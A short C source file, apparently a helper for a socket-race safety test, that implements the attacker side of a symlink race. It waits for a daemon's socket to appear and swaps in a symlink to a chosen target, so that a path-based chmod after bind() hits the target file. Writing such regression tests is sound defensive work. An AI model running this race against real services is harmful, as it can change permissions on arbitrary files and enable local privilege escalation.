/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * sock-swap DIR NAME TARGET: the attacker of tests/safety/test-socket-race.sh.
 * Run as a user who owns DIR, it waits (spinning on lstat) for a socket to
 * appear at DIR/NAME and renames a symlink to TARGET over it at once, as
 * often as it can, so that a daemon that chmods its socket by path after
 * bind() follows the link to TARGET.  Prints "ready" once spinning; runs
 * until killed; on SIGTERM prints how many sockets it swapped.
 */
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static volatile sig_atomic_t stop;

static void on_term(int sig) {
        (void) sig;
        stop = 1;
}

int main(int argc, char **argv) {
        char path[4096], tmp[4096];
        unsigned long swaps = 0;
        struct stat st;

        if (argc != 4) {
                fprintf(stderr, "usage: sock-swap DIR NAME TARGET\n");
                return 2;
        }
        if (snprintf(path, sizeof(path), "%s/%s", argv[1], argv[2]) >= (int) sizeof(path) ||
            snprintf(tmp, sizeof(tmp), "%s/.sock-swap", argv[1]) >= (int) sizeof(tmp))
                return 2;
        signal(SIGTERM, on_term);
        (void) unlink(tmp);
        if (symlink(argv[3], tmp) < 0) {
                perror("symlink");
                return 1;
        }
        printf("ready\n");
        fflush(stdout);
        while (!stop) {
                if (lstat(path, &st) < 0 || !S_ISSOCK(st.st_mode))
                        continue;
                if (rename(tmp, path) == 0) {
                        swaps++;
                        if (symlink(argv[3], tmp) < 0 && errno != EEXIST)
                                return 1;
                }
        }
        printf("%lu\n", swaps);
        return 0;
}
